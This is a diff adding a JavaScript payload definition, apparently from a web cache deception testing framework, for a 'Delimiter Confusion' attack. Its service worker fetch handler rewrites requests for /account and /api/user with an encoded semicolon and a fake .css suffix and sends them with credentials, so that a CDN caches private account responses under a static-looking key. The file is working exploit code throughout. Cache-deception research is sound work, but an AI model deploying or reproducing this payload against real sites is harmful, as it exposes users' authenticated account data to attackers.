@@ -0,0 +1,84 @@
+// T3: Delimiter Confusion Attack - payload definition for sw/registry.js
+// Targets: /account, /api/user
+// Technique: Path delimiters / encoded characters that the origin treats as
+// the end of the path but the CDN keeps (decoded) in its cache key
+const T3_DELIMITER_CONFUSION = {
+  type: 't3-delimiter-confusion',
+  tag: 'T3',
+  name: 'Delimiter Confusion',
+  defaults: {
+    targetPaths: ['/account', '/api/user'],
+    delimiters: ['%3B'],
+    cacheSuffix: 'sw-wcd-cache',
+    deceptiveExtensions: ['.css']
+  },
+  fetchHandler: `
+self.addEventListener('fetch', (event) => {
+  const url = new URL(event.request.url);
+  const pathname = url.pathname;
+
+  const alreadyDelimited = ATTACK_CONFIG.delimiters.some(delimiter =>
+    pathname.toUpperCase().includes(delimiter.toUpperCase())
+  );
+
+  if (isTargetPath(pathname) && !alreadyDelimited) {
+    console.log(LOG_PREFIX, 'Intercepting target:', pathname);
+
+    // Select delimiter and deceptive extension (random when several are configured)
+    const delimiter = ATTACK_CONFIG.delimiters[
+      Math.floor(Math.random() * ATTACK_CONFIG.delimiters.length)
+    ];
+    const ext = ATTACK_CONFIG.deceptiveExtensions[
+      Math.floor(Math.random() * ATTACK_CONFIG.deceptiveExtensions.length)
+    ];
+
+    const confusedPath = pathname + delimiter + ATTACK_CONFIG.cacheSuffix + ext;
+    const confusedURL = url.origin + confusedPath + url.search;
+
+    console.log(LOG_PREFIX, 'Rewriting to:', confusedPath);
+    const rewrite = { originalUrl: url.href, rewrittenUrl: confusedURL, details: { delimiter } };
+    reportEvent('intercept', rewrite);
+
+    const modifiedRequest = new Request(confusedURL, {
+      method: event.request.method,
+      headers: event.request.headers,
+      credentials: 'include',
+      mode: 'cors',
+      redirect: 'follow'
+    });
+
+    event.respondWith(
+      fetch(modifiedRequest)
+        .then(response => {
+          reportEvent('response', { ...rewrite, responseStatus: response.status });
+
+          if (!response.ok) {
+            throw new Error(\`HTTP \${response.status}\`);
+          }
+
+          const modifiedHeaders = new Headers(response.headers);
+          modifiedHeaders.delete('Set-Cookie');
+          modifiedHeaders.set('X-SW-WCD-Attack', 'T3-Delimiter-Confusion');
+          modifiedHeaders.set('X-SW-WCD-Original-Path', pathname);
+          modifiedHeaders.set('X-SW-WCD-Modified-Path', confusedPath);
+          modifiedHeaders.set('X-SW-WCD-Delimiter', delimiter);
+
+          return new Response(response.body, {
+            status: response.status,
+            statusText: response.statusText,
+            headers: modifiedHeaders
+          });
+        })
+        .catch(error => {
+          console.error(LOG_PREFIX, 'Attack failed:', error);
+          reportEvent('fallback', { ...rewrite, error: error.message });
+          // Fallback to original request
+          return fetch(event.request);
+        })
+    );
+  }
+});
+`
+};
+
+export { T3_DELIMITER_CONFUSION };